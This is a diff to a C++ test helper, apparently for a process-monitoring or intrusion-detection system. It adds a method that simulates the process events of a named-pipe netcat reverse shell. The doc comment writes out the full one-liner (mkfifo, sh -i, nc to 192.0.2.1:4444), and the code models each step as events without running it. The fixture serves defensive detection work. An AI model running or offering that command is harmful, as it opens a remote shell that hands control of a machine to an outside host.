@@ -66,6 +66,19 @@ public:
         return add(pid, ppid, exe_of(exe), event::SocketBound{{"0.0.0.0", port}, 3});
     }
 
+    /// mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 >/tmp/f, up to the connect. The
+    /// shell that runs this line is 100, cat 102, sh 103, nc 104.
+    void plain_shell() {
+        exec(100, 1, {"bash", "-c", "..."});
+        exec(101, 100, {"mkfifo", "/tmp/f"});
+        make_fifo(101, 100, "/tmp/f");
+        exec(102, 100, {"cat", "/tmp/f"});
+        exec(103, 100, {"sh", "-i"});
+        open(104, 100, "bash", Mode::write);
+        open(102, 100, "cat", Mode::read);
+        exec(104, 100, {"nc", "192.0.2.1", "4444"});
+    }
+
     /// Lets time pass without an event.
     void wait(event::Duration duration) { time += duration; }
 
